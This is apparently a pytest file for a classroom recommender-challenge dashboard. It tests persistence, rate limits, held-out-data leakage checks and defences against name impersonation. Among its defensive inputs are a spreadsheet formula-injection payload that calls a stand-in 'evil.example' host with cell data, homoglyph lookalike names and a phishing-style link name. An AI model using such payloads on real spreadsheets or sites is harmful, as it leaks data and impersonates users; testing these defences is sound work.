"""Challenges on disk: kept across a restart, names unique after normalisation, a limit per hour, runs
checked against the challenge's training part, concurrent submitters all recorded, the held-out side
refused to every other split."""

from __future__ import annotations

import dataclasses
import json
import threading

import numpy as np
import pandas as pd
import pytest

from dashboard import challenge as store
from dashboard.names import in_code
from dashboard.state import DataChoice, Run
from recengine import data as loaders
from recengine.data.dataset import RatingsDataset
from recengine.data.synthetic import movielens_like
from recengine.errors import DataError
from recengine.evaluation.challenge import Challenge, ChallengeError, ChallengeSpec
from recengine.models import make

NOW = 1_800_000_000.0
SPEC = ChallengeSpec(
    split="user:0.2", measure="ndcg@10", models=("popular", "baseline"), deadline=NOW + 86400
)


@pytest.fixture(scope="module")
def data() -> RatingsDataset:
    frame = movielens_like(120, 100, 3000, seed=2)
    return RatingsDataset.from_frame(frame, user="userId", item="movieId")


@pytest.fixture
def opened(home, data) -> store.StoredChallenge:
    return store.create(SPEC, DataChoice(), data, now=NOW)


@pytest.fixture
def engine(data, opened) -> Challenge:
    return Challenge(data, opened.spec)


@pytest.fixture
def popular(engine) -> object:
    return make("popular").fit(engine.train)


class Constant:
    """A rating model predicting one value for everyone."""

    kind = "rating"
    name = "baseline"

    def __init__(self, value: float):
        self.value = value

    def get_params(self) -> dict:
        return {"seed": 0, "value": self.value}

    def predict(self, users, items):
        return np.full(len(users), self.value)


def a_run(trained_on, model, *, algo="popular", split="user:0.2", seed=0, group="mine") -> Run:
    """A run of ``model`` trained on the data set ``trained_on`` (a challenge's training part, or not)."""
    return Run(
        run_id="r", algo=algo, label=algo, kind=model.kind, params={**model.get_params(), "seed": seed},
        split=split, fingerprint=trained_on.fingerprint, source_key="bundled:ml-latest-small", model=model,
        name=f"{algo} run", group=group,
    )  # fmt: skip


def test_a_challenge_and_its_submissions_come_back_from_disk(opened, data, engine, popular):
    run = a_run(engine.train, popular)
    submission = store.submit(opened.challenge_id, "person:a", "Ada", run, engine, now=NOW)
    assert (submission.public, submission.private) == pytest.approx(tuple(engine.scores(popular).values()))
    again = store.load(opened.challenge_id)  # what a restarted server reads
    seeds = {"seed": again.spec.seed, "part_seed": again.spec.part_seed}
    assert again.spec == dataclasses.replace(SPEC, **seeds) and again.names == {"ada": "person:a"}
    assert again.submissions[0].public == submission.public
    assert [c.challenge_id for c in store.all_challenges()] == [opened.challenge_id]
    assert not list(store.folder().glob(".*.tmp"))


def test_the_file_keeps_no_held_out_ratings(opened, data, engine, popular):
    store.submit(opened.challenge_id, "person:a", "Ada", a_run(engine.train, popular), engine, now=NOW)
    kept = json.loads(store._path(opened.challenge_id).read_text())
    assert set(kept) == {
        "challenge_id", "spec", "data", "data_label", "fingerprint", "created_at", "train_fingerprint",
        "settings_revealed", "private_revealed", "names", "submissions", "version",
    }  # fmt: skip
    assert set(kept["submissions"][0]) == {
        "name",
        "owner",
        "run_name",
        "algo",
        "params",
        "submitted_at",
        "public",
        "private",
        "address",
    }


def test_an_upload_cannot_hold_a_challenge(home, data):
    upload = DataChoice(kind="upload", value="mine.csv", options=(("path", "/x"),))
    with pytest.raises(ChallengeError, match="bundled or downloaded"):
        store.create(SPEC, upload, data, now=NOW)


# The last four: Cherokee, Lisu, Canadian syllabics and small capitals, from UTS #39's confusables.
@pytest.mark.parametrize(
    "taken",
    [
        "ada",
        "ADA",
        " A d a ",
        "\u0410da",
        "Ａｄａ",
        "Adá",
        "\u13aa\u13a0\u13aa",
        "\ua4ee\ua4d3\ua4ee",
        "\u15c5\u15de\u15c5",
        "\u1d00\u1d05\u1d00",
    ],
)
def test_a_name_that_looks_like_a_taken_one_is_refused(opened, data, engine, popular, taken):
    store.submit(opened.challenge_id, "person:a", "Ada", a_run(engine.train, popular), engine, now=NOW)
    shown = " ".join(taken.split())
    with pytest.raises(
        ChallengeError, match=f"The name `{shown}` is taken in this challenge: it looks like `Ada`"
    ):
        store.submit(opened.challenge_id, "person:b", taken, a_run(engine.train, popular), engine, now=NOW)
    store.submit(opened.challenge_id, "person:a", taken, a_run(engine.train, popular), engine, now=NOW + 1)


def test_a_capital_i_reads_as_an_l_while_other_names_stay_apart(opened, engine, popular):
    """The fifth re-probe: "AIice" (a capital I) beside "Alice". Folding case first made it "aiice"; drawn,
    a capital I is an l (UTS #39). "Ali" and "All" differ to the eye and stay two names."""
    store.submit(opened.challenge_id, "person:a", "Alice", a_run(engine.train, popular), engine, now=NOW)
    with pytest.raises(
        ChallengeError, match="The name `AIice` is taken in this challenge: it looks like `Alice`"
    ):
        store.submit(opened.challenge_id, "person:b", "AIice", a_run(engine.train, popular), engine, now=NOW)
    store.submit(opened.challenge_id, "person:c", "Ali", a_run(engine.train, popular), engine, now=NOW)
    store.submit(opened.challenge_id, "person:d", "All", a_run(engine.train, popular), engine, now=NOW)
    assert len(store.best_per_person(store.load(opened.challenge_id))) == 3


def test_names_are_escaped_for_markdown(opened, engine, popular):
    """probe4's finding 4: a display name made of allowed characters cannot become a link, emphasis or a
    Streamlit directive where it is written into Markdown (messages, the lesson): a code span, since GitHub's
    autolinks read through backslash escapes (probe 7)."""
    assert store.in_markdown("www.class-login.example") == r"www\.class\-login\.example"
    assert store.in_markdown("O'Neil_x *b* [a](b) :red[x] é") == r"O\'Neil\_x \*b\* \[a\]\(b\) \:red\[x\] é"
    store.submit(
        opened.challenge_id, "person:a", "www.ada.example", a_run(engine.train, popular), engine, now=NOW
    )
    with pytest.raises(ChallengeError) as refused:
        store.submit(
            opened.challenge_id, "person:b", "WWW.Ada.example", a_run(engine.train, popular), engine, now=NOW
        )
    assert "`WWW.Ada.example` is taken in this challenge: it looks like `www.ada.example`" in str(
        refused.value
    )
    assert in_code("a `www.x.example` b") == "`a www.x.example b`"  # a backtick cannot end the span early
    with pytest.raises(ChallengeError, match="You submit as `www.ada.example`"):
        store.submit(
            opened.challenge_id, "person:a", "Ada", a_run(engine.train, popular), engine, now=NOW + 1
        )


def test_a_person_keeps_one_name(opened, data, engine, popular):
    store.submit(opened.challenge_id, "person:a", "Ada", a_run(engine.train, popular), engine, now=NOW)
    with pytest.raises(ChallengeError, match="You submit as `Ada`"):
        store.submit(
            opened.challenge_id, "person:a", "Grace", a_run(engine.train, popular), engine, now=NOW + 1
        )


def test_a_classmates_roster_name_is_theirs_alone(opened, engine, popular):
    """Probe 7b: Mallory submitted as "Student01", and the real Student01 was refused their own name."""
    classmates = ["Ada Lovelace", "Alan Turing"]
    run = a_run(engine.train, popular)
    for taken in ("Ada Lovelace", "ada  lovelace", "Аda Lovelace"):  # case, spaces, a Cyrillic А
        with pytest.raises(ChallengeError, match="a classmate's name on the class roster"):
            store.submit(opened.challenge_id, "person:m", taken, run, engine, now=NOW, reserved=classmates)
    made = store.submit(opened.challenge_id, "person:m", "Mallory", run, engine, now=NOW, reserved=classmates)
    assert made.name == "Mallory"
    ada = store.submit(
        opened.challenge_id, "person:a", "Ada Lovelace", run, engine, now=NOW, reserved=["Mallory"]
    )
    assert ada.name == "Ada Lovelace"  # her own name: not among her classmates'


def test_ten_submissions_an_hour(opened, data, engine, popular):
    for minute in range(store.MAX_PER_HOUR):
        store.submit(
            opened.challenge_id,
            "person:a",
            "Ada",
            a_run(engine.train, popular),
            engine,
            now=NOW + 60 * minute,
        )
    with pytest.raises(
        ChallengeError, match="10 submissions per hour at most: your next one is possible in 51"
    ):
        store.submit(
            opened.challenge_id, "person:a", "Ada", a_run(engine.train, popular), engine, now=NOW + 540
        )
    store.submit(opened.challenge_id, "person:b", "Bob", a_run(engine.train, popular), engine, now=NOW + 540)
    store.submit(opened.challenge_id, "person:a", "Ada", a_run(engine.train, popular), engine, now=NOW + 3600)


def test_a_session_without_a_workspace_cookie_may_not_submit(opened, data, engine, popular):
    """The re-probe: 14 cookieless sessions submitted 14 times and took 14 names (each new tab a new person)."""
    with pytest.raises(ChallengeError, match="allow cookies for this site, then reload"):
        store.submit(
            opened.challenge_id, "session:tab-1", "Eve", a_run(engine.train, popular), engine, now=NOW
        )
    assert store.load(opened.challenge_id).submissions == []


def test_one_network_address_has_an_hourly_budget(opened, data, engine, popular, monkeypatch):
    """A class behind one router shares its address: 40 people's hourly limit by default, here 3."""
    monkeypatch.delenv(store.PER_ADDRESS_ENV, raising=False)
    assert store.max_per_address() == 40 * store.MAX_PER_HOUR
    monkeypatch.setenv(store.PER_ADDRESS_ENV, "3")
    router, home_line = store.address_digest("10.0.0.7"), store.address_digest("10.0.0.8")
    assert router != home_line and "10.0.0.7" not in router

    def send(person: str, address: str, now: float) -> store.Submission:
        run = a_run(engine.train, popular)
        return store.submit(
            opened.challenge_id, f"person:{person}", person, run, engine, now=now, address=address
        )

    for minute, person in enumerate("abc"):
        send(person, router, NOW + 60 * minute)
    with pytest.raises(
        ChallengeError, match="3 submissions per hour at most from one network.*in 57 minutes"
    ):
        send("d", router, NOW + 180)
    send("d", home_line, NOW + 180)  # another network is not counted
    send("d", router, NOW + 3600)  # an hour after the first
    assert [s.address for s in store.load(opened.challenge_id).submissions] == [router] * 3 + [
        home_line,
        router,
    ]


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"algo": "sgd"}, "accepts popular, baseline"),
        ({"group": "lessons"}, "your own trained runs"),
    ],
)
def test_a_run_not_trained_on_the_challenges_side_is_refused(opened, data, engine, popular, changes, message):
    with pytest.raises(ChallengeError, match=message):
        store.submit(
            opened.challenge_id, "person:a", "Ada", a_run(engine.train, popular, **changes), engine, now=NOW
        )
    assert not store.load(opened.challenge_id).submissions


@pytest.mark.parametrize("split", ["user:0.2", "none", "temporal:0.1"])
def test_only_runs_trained_on_the_training_part_are_accepted(opened, data, engine, popular, split):
    """The whole data set holds the held-out ratings: a run trained on it (any split, any seed) is refused;
    on the training part, any validation split (or none) is accepted."""
    with pytest.raises(ChallengeError, match="not trained on the challenge's training part"):
        store.submit(
            opened.challenge_id, "person:a", "Ada", a_run(data, popular, split=split), engine, now=NOW
        )
    assert not store.accepts(opened, a_run(data, popular, split=split))
    run = a_run(engine.train, popular, split=split, seed=5)
    assert store.accepts(opened, run)
    store.submit(opened.challenge_id, "person:a", "Ada", run, engine, now=NOW)


@pytest.fixture
def timed() -> RatingsDataset:
    frame = movielens_like(120, 100, 3000, seed=2)
    frame["timestamp"] = np.random.default_rng(0).integers(0, 10**6, len(frame))
    return RatingsDataset.from_frame(frame, user="userId", item="movieId", timestamp="timestamp")


def check(data, split, seed=0, now=NOW, whole=None):
    store.check_not_held_out(data, split, seed, now=now, whole=whole)


def test_the_split_seed_is_drawn_on_the_server_and_the_held_out_side_refused(home, timed):
    """The teacher's seed is replaced by a secret one, so a user split of the whole set with any seed a
    student guesses holds out other ratings; a temporal split of the challenge's share holds out its test
    side whatever the seed, and is refused on the whole data set while the challenge is open."""
    spec = dataclasses.replace(SPEC, split="temporal:0.2")
    by_time = store.create(spec, DataChoice(), timed, now=NOW)
    by_user = store.create(SPEC, DataChoice(), timed, now=NOW)
    assert by_user.spec.seed != by_time.spec.seed  # drawn, not the teacher's (2**-32 to fail by chance)
    engine = Challenge(timed, by_time.spec)
    assert engine.train.fingerprint == by_time.train_fingerprint
    for seed in (0, 7):
        with pytest.raises(ChallengeError, match="Work on this challenge"):
            check(timed, "temporal:0.20", seed)
    check(timed, "user:0.2")  # a guessed seed: other ratings
    check(engine.train, "temporal:0.2")  # within the training part
    check(timed, "temporal:0.2", now=NOW + 86400)  # closed


def test_a_larger_share_or_a_filtered_copy_is_refused_by_its_ratings(home, timed):
    """probe4's finding 1: a temporal split with a larger share (a slider step, or any number sent over the
    websocket), or the challenge's own share on a filtered copy of its data set (another fingerprint, the
    same source), holds out a superset of a temporal challenge's test side: refused; a random split of the
    same data, and any split of the challenge's training part, are not."""
    opened = store.create(dataclasses.replace(SPEC, split="temporal:0.2"), DataChoice(), timed, now=NOW)
    filtered = loaders.filter_min_ratings(timed, 20, 1)  # as the Data page filters
    assert filtered.fingerprint != timed.fingerprint
    for data, split in ((timed, "temporal:0.25"), (timed, "temporal:0.21"), (timed, "temporal:0.5"),
                        (filtered, "temporal:0.2")):  # fmt: skip
        with pytest.raises(ChallengeError, match="Work on this challenge"):
            check(data, split, whole=lambda stored: timed)
    for split, seed in (("user:0.2", 0), ("user:0.25", 7), ("user:0.5", 3)):
        check(timed, split, seed, whole=lambda stored: timed)
    train = Challenge(timed, opened.spec).train
    for split in ("temporal:0.2", "temporal:0.5", "user:0.2"):
        check(train, split, whole=lambda stored: timed)
    with pytest.raises(ChallengeError, match="Work on this challenge"):  # whatever its source
        check(filtered, "temporal:0.3", whole=lambda stored: timed)
    other = RatingsDataset.from_frame(
        movielens_like(120, 100, 3000, seed=3).assign(timestamp=np.arange(3000)),
        user="userId", item="movieId", timestamp="timestamp",
    )  # fmt: skip
    check(other, "temporal:0.3", whole=lambda stored: timed)  # another data set: pairs meet by chance

    def gone(stored):
        raise DataError("its file is gone")

    check(filtered, "temporal:0.3", whole=gone)  # a challenge nobody can load holds nothing back


def test_board_cells_are_literal_text_and_the_csv_holds_no_formula():
    """probe6's findings 2 and 9: `st.table` renders cells as Markdown (``www.`` names became live links on
    every classmate's board), and the teacher's CSV kept a run named ``=HYPERLINK(...)`` as a formula."""
    frame = pd.DataFrame({"name": ["www.class-login.example", "a __b__", "Ada"], "score": [0.9, -0.5, 1.0],
                          "settings": ["als: n_factors 8", "b", "c"]})  # fmt: skip
    cells = store.as_markdown_cells(frame)
    assert list(cells["name"]) == ["`www.class-login.example`", "`a __b__`", "`Ada`"]  # code: never a link
    assert list(cells["score"]) == [0.9, -0.5, 1.0]
    assert cells["settings"][0] == r"als\: n\_factors 8"
    runs = pd.DataFrame({"run": ['=HYPERLINK("https://evil.example/?"&B2,"Open")', "+1", "-x", "@SUM(A1)",
                                 "\tx", "ALS 64", "a=b"], "public": [0.1, -0.2, 0.3, 0.4, 0.5, 0.6, 0.7]})  # fmt: skip
    safe = store.spreadsheet_safe(runs)
    assert list(safe["run"]) == ["'" + runs["run"][0], "'+1", "'-x", "'@SUM(A1)", "'\tx", "ALS 64", "a=b"]
    assert list(safe["public"]) == list(runs["public"])  # a negative score stays a number


def test_cached_models_tested_on_held_out_ratings_are_not_listed(home, timed):
    """probe4's leftover: Compare & tune listed a cached model trained with ``temporal:0.25`` beside a
    ``temporal:0.2`` challenge (the split's text differs), its metrics those of the held-out ratings. The
    list is now judged by the ratings each entry's split tests on."""
    store.create(dataclasses.replace(SPEC, split="temporal:0.2"), DataChoice(), timed, now=NOW)
    entries = [{"key": split, "extra": {"split": split}, "params": {"seed": 0}}
               for split in ("temporal:0.25", "temporal:0.2", "user:0.2", "none", "nonsense:9")]  # fmt: skip
    kept = store.blind_to_held_out(timed, entries, now=NOW, whole=lambda stored: timed)
    assert [entry["key"] for entry in kept] == ["user:0.2", "none"]
    closed = store.blind_to_held_out(timed, entries, now=NOW + 86400, whole=lambda stored: timed)
    assert len(closed) == len(entries)


def test_after_the_deadline_nothing_is_accepted(opened, data, engine, popular):
    with pytest.raises(ChallengeError, match="closed"):
        store.submit(
            opened.challenge_id, "person:a", "Ada", a_run(engine.train, popular), engine, now=NOW + 86400
        )


def test_the_board_hides_settings_and_private_scores_until_revealed(opened, data, engine, popular):
    store.submit(opened.challenge_id, "person:a", "Ada", a_run(engine.train, popular), engine, now=NOW)
    store.submit(opened.challenge_id, "person:b", "Bob", a_run(engine.train, popular), engine, now=NOW + 5)
    board = store.leaderboard(store.load(opened.challenge_id))
    assert list(board.columns) == ["rank", "name", "public NDCG@10", "submissions"]
    assert list(board["name"]) == ["Ada", "Bob"]  # a tie: the earlier first
    teacher = store.leaderboard(store.load(opened.challenge_id), teacher=True)
    assert {"private NDCG@10", "settings"} <= set(teacher.columns)
    store.reveal(opened.challenge_id, settings=True)
    assert "settings" in store.leaderboard(store.load(opened.challenge_id))
    assert "private NDCG@10" not in store.leaderboard(store.load(opened.challenge_id))
    store.reveal(opened.challenge_id, private=True)
    assert "private NDCG@10" in store.leaderboard(store.load(opened.challenge_id))
    table = store.submissions_table(store.load(opened.challenge_id))
    assert "owner" not in table and "person:a" not in table.to_csv()


def test_the_board_keeps_each_persons_best(home, data):
    spec = ChallengeSpec(split="user:0.2", measure="rmse", models=("baseline",), deadline=NOW + 86400)
    opened = store.create(spec, DataChoice(), data, now=NOW)
    rmse_engine = Challenge(data, opened.spec)
    strong, weak = Constant(float(rmse_engine.train.ratings.mean())), Constant(1.0)
    for at, model in enumerate((weak, strong, weak)):
        store.submit(
            opened.challenge_id,
            "person:a",
            "Ada",
            a_run(rmse_engine.train, model, algo="baseline"),
            rmse_engine,
            now=NOW + at,
        )
    board = store.leaderboard(store.load(opened.challenge_id))
    assert len(board) == 1 and board["submissions"][0] == 3
    assert board["public RMSE"][0] == pytest.approx(rmse_engine.score(strong, "public"))


def test_concurrent_submitters_all_land_and_a_name_goes_to_one(opened, data, engine, popular):
    outcomes: list[str] = []

    def submit(owner: str, name: str) -> None:
        try:
            store.submit(opened.challenge_id, owner, name, a_run(engine.train, popular), engine, now=NOW)
            outcomes.append(f"{name}:ok")
        except ChallengeError:
            outcomes.append(f"{name}:refused")

    threads = [threading.Thread(target=submit, args=(f"person:{n}", f"Student {n}")) for n in range(8)]
    threads += [threading.Thread(target=submit, args=(f"person:twin{n}", "Twin")) for n in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    stored = store.load(opened.challenge_id)
    assert len(stored.submissions) == 9
    assert sorted(outcomes).count("Twin:ok") == 1 and sorted(outcomes).count("Twin:refused") == 1


def test_two_challenges_divide_the_test_users_differently_and_a_stale_scorer_is_refused(home, data, popular):
    first = store.create(SPEC, DataChoice(), data, now=NOW)
    second = store.create(SPEC, DataChoice(), data, now=NOW)
    assert first.spec.part_seed != second.spec.part_seed
    assert set(Challenge(data, first.spec).public.user_codes) != set(
        Challenge(data, second.spec).public.user_codes
    )
    with pytest.raises(ChallengeError, match="has changed since it opened"):
        store.submit(
            first.challenge_id,
            "person:a",
            "Ada",
            a_run(Challenge(data, first.spec).train, popular),
            Challenge(data, second.spec),
            now=NOW,
        )


def test_a_run_picked_from_the_cache_is_accepted_only_from_who_trained_it(opened, engine, popular):
    """The fourth re-probe: a classmate's model added from Compare & tune's cache list was submitted as one's
    own. A run trained here (``taken_from`` None, even when its settings were found in the cache) passes."""
    from dashboard.profiles import owner_digest

    taken = dataclasses.replace(a_run(engine.train, popular), taken_from=owner_digest("person:a"))
    with pytest.raises(ChallengeError, match="someone else trained, added from the cache"):
        store.submit(opened.challenge_id, "person:b", "Bob", taken, engine, now=NOW)
    unknown = dataclasses.replace(taken, taken_from="")  # stored by the command line: nobody's here
    with pytest.raises(ChallengeError, match="someone else trained"):
        store.submit(opened.challenge_id, "person:b", "Bob", unknown, engine, now=NOW)
    assert not store.load(opened.challenge_id).submissions
    store.submit(opened.challenge_id, "person:a", "Ada", taken, engine, now=NOW)  # their own model
    store.submit(opened.challenge_id, "person:b", "Bob", a_run(engine.train, popular), engine, now=NOW)
    assert [s.name for s in store.load(opened.challenge_id).submissions] == ["Ada", "Bob"]


def test_one_network_address_takes_a_limited_number_of_names(opened, engine, popular, monkeypatch):
    """The fourth re-probe: three minted cookies made three board names. A class behind one router takes 40
    names by default, here 2; a name already taken keeps submitting, another network is not counted."""
    monkeypatch.delenv(store.NAMES_PER_ADDRESS_ENV, raising=False)
    assert store.max_names_per_address() == store.CLASS_SIZE
    monkeypatch.setenv(store.NAMES_PER_ADDRESS_ENV, "2")
    router, home_line = store.address_digest("10.0.0.7"), store.address_digest("10.0.0.8")

    def send(person: str, address: str) -> store.Submission:
        run = a_run(engine.train, popular)
        return store.submit(
            opened.challenge_id, f"person:{person}", person, run, engine, now=NOW, address=address
        )

    send("a", router)
    send("b", router)
    with pytest.raises(ChallengeError, match="2 display names have been taken from your network"):
        send("c", router)
    send("a", router)  # a name it has keeps submitting
    send("c", home_line)
    send("c", router)  # c has its name now (taken from another network)
    assert [s.name for s in store.load(opened.challenge_id).submissions] == ["a", "b", "a", "c", "c"]
